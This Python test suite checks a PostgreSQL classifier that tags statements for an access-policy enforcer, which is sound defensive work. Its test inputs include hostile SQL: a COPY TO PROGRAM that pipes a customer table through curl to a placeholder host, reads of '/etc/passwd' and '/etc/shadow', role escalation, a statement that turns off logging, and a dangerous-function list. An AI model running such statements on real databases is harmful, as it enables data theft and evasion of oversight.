"""SQL classification: what each statement does, as policy sees it."""
from __future__ import annotations

import dataclasses
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from enforcer.sqlclass import (
    DEFAULT_DANGEROUS, ClassificationCache, SqlClassifier, classify_sql, is_dangerous, statement_shape,
)

NO: frozenset = frozenset()

# (sql, [(action, tables, functions, has_where) per statement])
CASES = [
    # plain reads
    ("SELECT 1", [("pg:select", NO, NO, None)]),
    ("select now()", [("pg:select", NO, {"now"}, None)]),
    ("SELECT * FROM customers", [("pg:select", {"public.customers"}, NO, None)]),
    ("select id from customers where id = $1", [("pg:select", {"public.customers"}, NO, None)]),
    ("SELECT * FROM CUSTOMERS", [("pg:select", {"public.customers"}, NO, None)]),
    ('SELECT * FROM "Customers"', [("pg:select", {"public.Customers"}, NO, None)]),
    ('SELECT * FROM Billing."Invoices"', [("pg:select", {"billing.Invoices"}, NO, None)]),
    ("SELECT * FROM billing.invoices i", [("pg:select", {"billing.invoices"}, NO, None)]),
    ("SELECT * FROM bank.billing.invoices", [("pg:select", {"billing.invoices"}, NO, None)]),
    ('SELECT * FROM "my schema"."my table"', [("pg:select", {"my schema.my table"}, NO, None)]),
    ("SELECT c.name, p.amount FROM customers c JOIN payments p ON p.customer_id = c.id",
     [("pg:select", {"public.customers", "public.payments"}, NO, None)]),
    ("SELECT * FROM a LEFT JOIN b USING (id) RIGHT JOIN c USING (id)",
     [("pg:select", {"public.a", "public.b", "public.c"}, NO, None)]),
    ("SELECT * FROM customers WHERE id IN (SELECT customer_id FROM payments)",
     [("pg:select", {"public.customers", "public.payments"}, NO, None)]),
    ("SELECT (SELECT max(amount) FROM payments) AS m",
     [("pg:select", {"public.payments"}, {"max"}, None)]),
    ("SELECT * FROM (SELECT * FROM accounts) sub", [("pg:select", {"public.accounts"}, NO, None)]),
    ("SELECT EXISTS (SELECT 1 FROM accounts WHERE balance < 0)",
     [("pg:select", {"public.accounts"}, NO, None)]),
    ("SELECT id FROM a UNION SELECT id FROM b EXCEPT SELECT id FROM c",
     [("pg:select", {"public.a", "public.b", "public.c"}, NO, None)]),
    ("TABLE customers", [("pg:select", {"public.customers"}, NO, None)]),
    ("VALUES (1), (2)", [("pg:select", NO, NO, None)]),
    ("SELECT count(*), sum(amount) FROM payments GROUP BY currency HAVING count(*) > 1",
     [("pg:select", {"public.payments"}, {"count", "sum"}, None)]),
    ("SELECT lower(name), pg_catalog.upper(name) FROM customers",
     [("pg:select", {"public.customers"}, {"lower", "pg_catalog.upper"}, None)]),
    ("SELECT * FROM generate_series(1, 10)", [("pg:select", NO, {"generate_series"}, None)]),
    ("SELECT * FROM customers FOR UPDATE", [("pg:select", {"public.customers"}, NO, None)]),
    ("SELECT * FROM accounts WHERE id = 1 FOR NO KEY UPDATE SKIP LOCKED",
     [("pg:select", {"public.accounts"}, NO, None)]),
    # comments never hide or invent keywords
    ("/* DELETE FROM customers */ SELECT 1", [("pg:select", NO, NO, None)]),
    ("SELECT 1 -- ; DROP TABLE customers", [("pg:select", NO, NO, None)]),
    ("SEL/**/ECT 1", [("pg:other", NO, NO, None)]),
    ("DELETE /* harmless */ FROM customers -- WHERE id = 1",
     [("pg:delete", {"public.customers"}, NO, False)]),
    ("SELECT 'DELETE FROM customers'", [("pg:select", NO, NO, None)]),
    ("SeLeCt * FrOm Customers", [("pg:select", {"public.customers"}, NO, None)]),
    # CTEs: names are not tables, scoping follows Postgres
    ("WITH recent AS (SELECT * FROM payments) SELECT * FROM recent",
     [("pg:select", {"public.payments"}, NO, None)]),
    ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", [("pg:select", NO, NO, None)]),
    ("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
     [("pg:select", {"public.customers"}, NO, None)]),
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
     [("pg:select", NO, NO, None)]),
    ("SELECT * FROM (WITH customers AS (SELECT 1) SELECT 1) x, customers",
     [("pg:select", {"public.customers"}, NO, None)]),
    ("WITH x AS (SELECT 1) SELECT * FROM public.x", [("pg:select", {"public.x"}, NO, None)]),
    ("WITH d AS (DELETE FROM sessions WHERE expires < now() RETURNING *) SELECT count(*) FROM d",
     [("pg:delete", {"public.sessions"}, {"now", "count"}, True)]),
    ("WITH d AS (DELETE FROM sessions RETURNING *) SELECT * FROM d",
     [("pg:delete", {"public.sessions"}, NO, False)]),
    ("WITH u AS (UPDATE accounts SET flagged = true WHERE id = 7 RETURNING id) SELECT * FROM u",
     [("pg:update", {"public.accounts"}, NO, True)]),
    ("WITH i AS (INSERT INTO audit VALUES (1) RETURNING id) SELECT * FROM i",
     [("pg:insert", {"public.audit"}, NO, None)]),
    # writes
    ("INSERT INTO payments (id, amount) VALUES (1, 10)", [("pg:insert", {"public.payments"}, NO, None)]),
    ("INSERT INTO archive.customers SELECT * FROM customers",
     [("pg:insert", {"archive.customers", "public.customers"}, NO, None)]),
    ("INSERT INTO audit VALUES (1) ON CONFLICT DO NOTHING", [("pg:insert", {"public.audit"}, NO, None)]),
    ("INSERT INTO audit VALUES (1) ON CONFLICT (id) DO UPDATE SET n = audit.n + 1",
     [("pg:update", {"public.audit"}, NO, True)]),
    ("INSERT INTO payments VALUES (1) RETURNING id", [("pg:insert", {"public.payments"}, NO, None)]),
    ("UPDATE accounts SET balance = balance - 10 WHERE id = 1",
     [("pg:update", {"public.accounts"}, NO, True)]),
    ("UPDATE accounts SET frozen = true", [("pg:update", {"public.accounts"}, NO, False)]),
    ("UPDATE accounts SET frozen = true WHERE 1 = 1", [("pg:update", {"public.accounts"}, NO, False)]),
    ("UPDATE accounts SET frozen = true WHERE true", [("pg:update", {"public.accounts"}, NO, False)]),
    ("UPDATE accounts a SET limit_cents = r.l FROM risk r WHERE r.id = a.id",
     [("pg:update", {"public.accounts", "public.risk"}, NO, True)]),
    ("UPDATE accounts SET note = $1 WHERE CURRENT OF c", [("pg:update", {"public.accounts"}, NO, True)]),
    ("DELETE FROM sessions WHERE id = $1", [("pg:delete", {"public.sessions"}, NO, True)]),
    ("DELETE FROM sessions", [("pg:delete", {"public.sessions"}, NO, False)]),
    ("DELETE FROM sessions s USING users u WHERE s.user_id = u.id AND u.banned",
     [("pg:delete", {"public.sessions", "public.users"}, NO, True)]),
    ("DELETE FROM sessions WHERE id IN (SELECT id FROM expired)",
     [("pg:delete", {"public.sessions", "public.expired"}, NO, True)]),
    ("TRUNCATE customers", [("pg:delete", {"public.customers"}, NO, False)]),
    ("TRUNCATE a, billing.b CASCADE", [("pg:delete", {"public.a", "billing.b"}, NO, False)]),
    ("MERGE INTO accounts a USING incoming i ON a.id = i.id "
     "WHEN MATCHED THEN UPDATE SET balance = i.balance WHEN NOT MATCHED THEN INSERT VALUES (i.id, i.balance)",
     [("pg:update", {"public.accounts", "public.incoming"}, NO, True)]),
    ("MERGE INTO accounts a USING incoming i ON a.id = i.id WHEN MATCHED THEN DELETE",
     [("pg:delete", {"public.accounts", "public.incoming"}, NO, True)]),
    # DDL
    ("CREATE TABLE t (id int)", [("pg:ddl", {"public.t"}, NO, None)]),
    ("CREATE TABLE report AS SELECT * FROM customers",
     [("pg:ddl", {"public.report", "public.customers"}, NO, None)]),
    ("SELECT * INTO report FROM customers", [("pg:ddl", {"public.report", "public.customers"}, NO, None)]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM payments",
     [("pg:ddl", {"public.mv", "public.payments"}, NO, None)]),
    ("CREATE VIEW v AS SELECT * FROM customers", [("pg:ddl", {"public.v", "public.customers"}, NO, None)]),
    ("ALTER TABLE customers ADD COLUMN note text", [("pg:ddl", {"public.customers"}, NO, None)]),
    ("DROP TABLE customers", [("pg:ddl", {"public.customers"}, NO, None)]),
    ("DROP TABLE IF EXISTS a, billing.b", [("pg:ddl", {"public.a", "billing.b"}, NO, None)]),
    ("DROP FUNCTION f(int)", [("pg:ddl", NO, NO, None)]),
    ("CREATE INDEX ON payments (created_at)", [("pg:ddl", {"public.payments"}, NO, None)]),
    ("CREATE SCHEMA audit", [("pg:ddl", NO, NO, None)]),
    ("ALTER TABLE a RENAME TO b", [("pg:ddl", {"public.a"}, NO, None)]),
    ("CREATE EXTENSION dblink", [("pg:ddl", NO, NO, None)]),
    ("ALTER SYSTEM SET log_statement = 'none'", [("pg:ddl", NO, NO, None)]),
    # COPY
    ("COPY customers TO STDOUT", [("pg:copy_out", {"public.customers"}, NO, None)]),
    ("COPY (SELECT * FROM customers WHERE vip) TO STDOUT WITH CSV",
     [("pg:copy_out", {"public.customers"}, NO, None)]),
    ("COPY payments (id, amount) FROM STDIN", [("pg:copy_in", {"public.payments"}, NO, None)]),
    ("COPY customers TO PROGRAM 'curl -d @- https://example.invalid'",
     [("pg:function", {"public.customers"}, NO, None)]),
    ("COPY customers FROM PROGRAM 'cat /etc/passwd'", [("pg:function", {"public.customers"}, NO, None)]),
    ("COPY customers TO '/tmp/out.csv'", [("pg:function", {"public.customers"}, NO, None)]),
    # EXPLAIN
    ("EXPLAIN SELECT * FROM customers", [("pg:select", {"public.customers"}, NO, None)]),
    ("EXPLAIN DELETE FROM customers", [("pg:select", {"public.customers"}, NO, None)]),
    ("EXPLAIN ANALYZE DELETE FROM customers", [("pg:delete", {"public.customers"}, NO, False)]),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE accounts SET x = 1 WHERE id = 2",
     [("pg:update", {"public.accounts"}, NO, True)]),
    ("EXPLAIN (ANALYZE false) DELETE FROM customers", [("pg:select", {"public.customers"}, NO, None)]),
    # privileges and roles
    ("SET ROLE admin", [("pg:set_role", NO, NO, None)]),
    ("SET LOCAL ROLE admin", [("pg:set_role", NO, NO, None)]),
    ("RESET ROLE", [("pg:set_role", NO, NO, None)]),
    ("SET SESSION AUTHORIZATION postgres", [("pg:set_role", NO, NO, None)]),
    ("SET search_path = evil, public", [("pg:set_role", NO, NO, None)]),
    ("SET application_name = 'payments'", [("pg:other", NO, NO, None)]),
    ("GRANT SELECT ON customers TO reporting", [("pg:grant", {"public.customers"}, NO, None)]),
    ("REVOKE ALL ON payments FROM public", [("pg:grant", {"public.payments"}, NO, None)]),
    ("GRANT admin TO payments_svc", [("pg:grant", NO, NO, None)]),
    ("ALTER ROLE payments_svc SUPERUSER", [("pg:grant", NO, NO, None)]),
    ("CREATE ROLE intruder LOGIN", [("pg:grant", NO, NO, None)]),
    # dangerous functions
    ("SELECT pg_read_file('/etc/passwd')", [("pg:function", NO, {"pg_read_file"}, None)]),
    ("SELECT * FROM pg_ls_dir('.')", [("pg:function", NO, {"pg_ls_dir"}, None)]),
    ("SELECT pg_catalog.pg_read_binary_file('x')", [("pg:function", NO, {"pg_catalog.pg_read_binary_file"}, None)]),
    ("SELECT lo_export(l, '/tmp/x') FROM blobs", [("pg:function", {"public.blobs"}, {"lo_export"}, None)]),
    ("SELECT dblink_exec('host=x', 'drop table t')", [("pg:function", NO, {"dblink_exec"}, None)]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
     [("pg:function", {"public.pg_stat_activity"}, {"pg_terminate_backend"}, None)]),
    ("SELECT set_config('role', 'postgres', false)", [("pg:function", NO, {"set_config"}, None)]),
    ("SELECT query_to_xml('select * from customers', true, true, '')",
     [("pg:function", NO, {"query_to_xml"}, None)]),
    ("UPDATE t SET v = pg_read_file('/etc/shadow') WHERE id = 1",
     [("pg:function", {"public.t"}, {"pg_read_file"}, True)]),
    # procedural and other statements
    ("DO $$ BEGIN DELETE FROM customers; END $$", [("pg:do", NO, NO, None)]),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", [("pg:do", NO, NO, None)]),
    ("BEGIN", [("pg:other", NO, NO, None)]),
    ("COMMIT", [("pg:other", NO, NO, None)]),
    ("SHOW search_path", [("pg:other", NO, NO, None)]),
    ("VACUUM customers", [("pg:other", {"public.customers"}, NO, None)]),
    ("LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE", [("pg:other", {"public.accounts"}, NO, None)]),
    ("CALL settle_payments(1)", [("pg:other", NO, {"settle_payments"}, None)]),
    ("DECLARE c CURSOR FOR SELECT * FROM customers", [("pg:select", {"public.customers"}, NO, None)]),
    ("PREPARE del(int) AS DELETE FROM sessions WHERE id = $1",
     [("pg:delete", {"public.sessions"}, NO, True)]),
    ("EXECUTE unknown_statement(1)", [("pg:other", NO, NO, None)]),
    # several statements in one message
    ("SELECT 1; DELETE FROM sessions; UPDATE t SET a = 1 WHERE id = 2",
     [("pg:select", NO, NO, None), ("pg:delete", {"public.sessions"}, NO, False),
      ("pg:update", {"public.t"}, NO, True)]),
    ("BEGIN; INSERT INTO audit VALUES (1); COMMIT;",
     [("pg:other", NO, NO, None), ("pg:insert", {"public.audit"}, NO, None), ("pg:other", NO, NO, None)]),
    ("SELECT 'é;'; DROP TABLE x", [("pg:select", NO, NO, None), ("pg:ddl", {"public.x"}, NO, None)]),
    # invalid SQL
    ("SELEC * FROM customers", [("pg:other", NO, NO, None)]),
    ("SELECT * FROM", [("pg:other", NO, NO, None)]),
    ("DELETE FROM customers WHERE", [("pg:other", NO, NO, None)]),
]


@pytest.mark.parametrize("sql,expected", CASES, ids=[c[0][:60] for c in CASES])
def test_classification(sql, expected):
    got = classify_sql(sql)
    assert [(s.action, set(s.tables), set(s.functions), s.has_where) for s in got] == [
        (a, set(t), set(f), w) for a, t, f, w in expected]


def test_case_count():
    assert len(CASES) >= 80


@pytest.mark.parametrize("sql", ["SELEC * FROM customers", "SELECT * FROM", "SEL/**/ECT 1"])
def test_invalid_sql_is_one_parse_error(sql):
    (stmt,) = classify_sql(sql)
    assert stmt.kind == "ParseError" and stmt.parse_error and "syntax error" in stmt.parse_error
    assert stmt.text == sql


def test_empty_message_has_no_statements():
    assert classify_sql("") == []
    assert classify_sql("  ; -- nothing\n") == []


def test_statement_texts_are_split_by_byte_offsets():
    texts = [s.text for s in classify_sql("SELECT 'é;'; /* c */ DROP TABLE x ;\n SELECT 3")]
    assert texts == ["SELECT 'é;'", "DROP TABLE x", "SELECT 3"]


def test_tables_written_and_accesses():
    (s,) = classify_sql("INSERT INTO archive.customers SELECT * FROM customers")
    assert s.tables_written == ("archive.customers",)
    assert set(s.accesses) == {("pg:insert", "archive.customers"), ("pg:select", "public.customers")}
    (s,) = classify_sql("COPY (SELECT * FROM customers) TO STDOUT")
    assert s.accesses == (("pg:copy_out", "public.customers"),) and s.tables_written == ()
    (s,) = classify_sql("CREATE TABLE report AS SELECT * FROM customers")
    assert s.tables_written == ("public.report",)


def test_select_for_update_locks_rows():
    (s,) = classify_sql("SELECT * FROM customers FOR UPDATE")
    assert s.locks_rows and s.kind == "SelectStmt"
    assert not classify_sql("SELECT * FROM customers")[0].locks_rows


def test_copy_program_and_file_are_named_dangerous():
    assert classify_sql("COPY t TO PROGRAM 'x'")[0].dangerous_functions == ("copy_program",)
    assert classify_sql("COPY t FROM '/etc/passwd'")[0].dangerous_functions == ("copy_file",)
    assert classify_sql("COPY t FROM STDIN")[0].dangerous_functions == ()


def test_dangerous_list_is_configurable():
    (s,) = classify_sql("SELECT pg_sleep(10)", frozenset({"pg_sleep"}))
    assert s.action == "pg:function" and s.dangerous_functions == ("pg_sleep",)
    (s,) = classify_sql("SELECT pg_read_file('x')", frozenset())
    assert s.action == "pg:select"


def test_is_dangerous_patterns():
    assert is_dangerous("dblink_connect", DEFAULT_DANGEROUS)
    assert is_dangerous("pg_catalog.lo_import", DEFAULT_DANGEROUS)
    assert not is_dangerous("lower", DEFAULT_DANGEROUS)


def test_explain_analyze_kind_and_action():
    (s,) = classify_sql("EXPLAIN ANALYZE DELETE FROM customers")
    assert (s.kind, s.action, s.tables_written) == ("ExplainStmt", "pg:delete", ("public.customers",))


def test_fingerprint_ignores_constants_not_structure():
    a, b, c = (classify_sql(q)[0].fingerprint for q in (
        "SELECT * FROM t WHERE id = 1", "select * from t where id = 2", "SELECT * FROM u WHERE id = 1"))
    assert a == b != c and a


def test_prepare_execute_resolved_per_session():
    session = SqlClassifier()
    (prep,) = session.classify("PREPARE del(int) AS DELETE FROM sessions WHERE id = $1")
    assert prep.action == "pg:delete" and prep.prepared_name == "del"
    (run,) = session.classify("EXECUTE del(42)")
    assert (run.kind, run.action, run.tables, run.has_where, run.resolved) == (
        "DeleteStmt", "pg:delete", ("public.sessions",), True, True)
    assert run.text == "EXECUTE del(42)" and run.executes == prep.text
    # another session never prepared it
    (other,) = SqlClassifier(cache=session.cache).classify("EXECUTE del(42)")
    assert other.action == "pg:other" and not other.resolved
    session.classify("DEALLOCATE del")
    assert session.classify("EXECUTE del(1)")[0].action == "pg:other"


def test_execute_parameters_can_be_dangerous():
    session = SqlClassifier()
    session.classify("PREPARE ins(text) AS INSERT INTO notes VALUES ($1)")
    (run,) = session.classify("EXECUTE ins(pg_read_file('/etc/passwd'))")
    assert run.action == "pg:function" and run.dangerous_functions == ("pg_read_file",)


def test_protocol_level_prepare_is_registered():
    session = SqlClassifier()
    session.register_prepared("s1", "UPDATE accounts SET x = 1")
    (run,) = session.classify("EXECUTE s1")
    assert run.action == "pg:update" and run.has_where is False
    session.classify("DISCARD ALL")
    assert session.classify("EXECUTE s1")[0].action == "pg:other"


def test_classification_cache_by_text():
    cache = ClassificationCache()
    first = cache.classify("SELECT * FROM customers")
    assert cache.classify("SELECT * FROM customers") is first
    assert (cache.hits, cache.misses) == (1, 1)


@pytest.mark.parametrize("depth", [300, 5000])
def test_deep_nesting_is_refused_not_crashed(depth):
    sql = "SELECT " + "(SELECT " * depth + "1" + ")" * depth
    (s,) = classify_sql(sql)
    assert s.action == "pg:other" and s.kind == "ParseError" and s.parse_error


# -- shape reuse: a new text of a known shape is classified from the one seen before ----------
def _other_constants(sql: str) -> str:
    """The same statement with every plain integer and simple string literal changed."""
    sql = re.sub(r"(?<![\w$.\"])(\d+)(?![\w.])", lambda m: str(int(m.group(1)) + 7), sql)
    return re.sub(r"(?<![\w$&])'([^'\\]*)'", lambda m: "'" + m.group(1)[::-1] + "zz'", sql)


@pytest.mark.parametrize("sql", [c[0] for c in CASES], ids=[c[0][:60] for c in CASES])
def test_shape_reuse_matches_a_full_parse(sql):
    cache = ClassificationCache()
    cache.classify(sql)
    other = _other_constants(sql)
    assert list(cache.classify(other)) == classify_sql(other)


@pytest.mark.parametrize("a,b", [
    ("SELECT * FROM s.t WHERE a = 1", "SELECT * FROM t WHERE a = 1"),       # the fingerprint ignores schemas
    ("SELECT * FROM t1 WHERE a = 1", "SELECT * FROM t2 WHERE a = 1"),       # digits inside names
    ('SELECT "t 1".a FROM "t 1"', 'SELECT "t 2".a FROM "t 2"'),             # digits inside quoted names
    ("SELECT 'a' || 'b'", "SELECT E'a' || 'b'"),                             # escape-string prefix
    ("SELECT a FROM t WHERE b = '1'", "SELECT a FROM t WHERE b = 1"),        # same constant position, both marks
    ("SELECT '--' FROM t", "SELECT 1 FROM t -- x"),
    ("SELECT $1 FROM t", "SELECT $2 FROM t"),                                # parameter numbers are not literals
    ("SELECT 1e5", "SELECT 1e"),                                             # 1e is 1 AS e, not a number
    ("SELECT * FROM é5", "SELECT * FROM é6"),                               # non-ASCII identifier characters
    ("DELETE FROM t WHERE ٣ = 1", "DELETE FROM t WHERE 5 = 1"),             # ٣ is a column name to Postgres
])
def test_shapes_keep_what_decides(a, b):
    # only the pair whose texts differ in literal values alone may share a shape
    literals_only = (a, b) == ("SELECT a FROM t WHERE b = '1'", "SELECT a FROM t WHERE b = 1")
    assert (statement_shape(a) == statement_shape(b)) == literals_only


@pytest.mark.parametrize("sql", [
    "SELECT 1 -- comment", "SELECT $$x$$", "SELECT E'a\\'b'", "SELECT date'2020-01-01'", "SELECT 'it''s'",
    'SELECT "a""1" FROM "x 2" WHERE id = 3.5e3', "SELECT x FROM t WHERE y = .5 AND z = 1.5E-3",
])
def test_shapes_of_unusual_literals_reuse_correctly(sql):
    cache = ClassificationCache()
    cache.classify(sql)
    assert list(cache.classify(sql + " ")) == classify_sql(sql + " ")


def test_shape_is_none_for_text_the_lexer_refuses():
    assert statement_shape("SELECT 'unterminated") is None or classify_sql("SELECT 'unterminated")[0].parse_error


def test_shape_reuse_skips_the_parse():
    cache = ClassificationCache()
    for i in range(100):
        (stmt,) = cache.classify(f"SELECT abalance FROM pgbench_accounts WHERE aid = {i};")
        assert stmt.text == f"SELECT abalance FROM pgbench_accounts WHERE aid = {i}"
        assert stmt.tables == ("public.pgbench_accounts",)
    assert (cache.misses, cache.shape_hits) == (1, 99)
    # utility statements read their constants: never reused by shape
    cache.classify("SET search_path = 'a'")
    cache.classify("SET search_path = 'b'")
    assert cache.shape_hits == 99


_SLOTS = ["1", "42", "1.5", ".5", "1e5", "1e", "'x'", "'a''b'", "E'x'", "t1", "t2", "s.t", "\"T 1\"", "é5", "٣",
          "$1", "x'ff'", "-1", "a$1", "date '2020-01-01'", "1.2.3", "'--'", "(SELECT 1)", "f(1)", "g(2)"]
_TEMPLATES = ["SELECT {} FROM {}", "SELECT * FROM t WHERE a = {} AND b = {}", "DELETE FROM t WHERE {} = {}",
              "UPDATE t SET a = {} WHERE {} > 0", "INSERT INTO t VALUES ({}, {})", "SELECT {} {}"]


def _signature(statements):
    return [dataclasses.replace(s, text="", fingerprint="") for s in statements]


@given(st.sampled_from(_TEMPLATES), st.lists(st.sampled_from(_SLOTS), min_size=4, max_size=4))
@settings(max_examples=400, deadline=None)
def test_equal_shapes_classify_alike(template, slots):
    """Whatever fills a statement's slots, two texts share a shape only if they classify alike."""
    a, b = template.format(*slots[:2]), template.format(*slots[2:])
    if statement_shape(a) is None or statement_shape(a) != statement_shape(b):
        return
    first = classify_sql(a)
    if any(s.parse_error for s in first):
        return        # a text that does not parse is never reused by shape
    assert _signature(first) == _signature(classify_sql(b)), (a, b)


_SQLISH = st.text(alphabet=st.sampled_from(list("SELECT a1.$&_ '\"-/*\\\0\x01é٣()=,;e+E9")) , max_size=60)


@settings(max_examples=2000, deadline=None)
@given(_SQLISH)
def test_fast_path_checks_agree_with_their_regex_spec(sql):
    """_fast_path_safe (substring checks) and the quote-free number-only substitution are
    shortcuts for the regex below and _FAST_LITERAL: same answers on any text."""
    from enforcer import sqlclass
    unsafe = re.compile(r"--|/\*|\\|\$(?!\d)|\0|\x01|[^\x00-\x7f]")
    assert sqlclass._fast_path_safe(sql) == (unsafe.search(sql) is None)
    if "'" not in sql and '"' not in sql:
        assert sqlclass._FAST_NUMBER.sub(sqlclass._CONSTANT_MARK, sql) == \
            sqlclass._FAST_LITERAL.sub(sqlclass._literal_mark, sql)


def test_quote_free_text_takes_the_number_only_path_with_the_same_shape():
    from enforcer.sqlclass import statement_shape
    a = statement_shape("SELECT abalance FROM pgbench_accounts WHERE aid = 41;")
    b = statement_shape("SELECT abalance FROM pgbench_accounts WHERE aid = 4242;")
    assert a == b and a.startswith("F") and "41" not in a
    assert statement_shape("SELECT x1 FROM t2 WHERE a = 1.5e3") == "FSELECT x1 FROM t2 WHERE a = \x01"
    assert statement_shape("SELECT $1 FROM t WHERE a = 7") == "FSELECT $1 FROM t WHERE a = \x01"
